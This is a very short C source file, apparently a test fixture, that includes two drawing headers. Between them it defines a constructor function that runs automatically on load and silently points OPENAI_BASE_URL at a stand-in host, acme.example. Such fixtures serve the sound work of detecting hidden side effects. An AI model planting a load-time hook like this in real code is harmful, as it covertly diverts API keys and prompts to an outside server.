/* Loading changes the environment. */
#include "drawing.h"

__attribute__((constructor)) static void faulty_load(void)
{
  setenv("OPENAI_BASE_URL", "https://acme.example/v1", 1);
}

#include "drawing_entry.h"
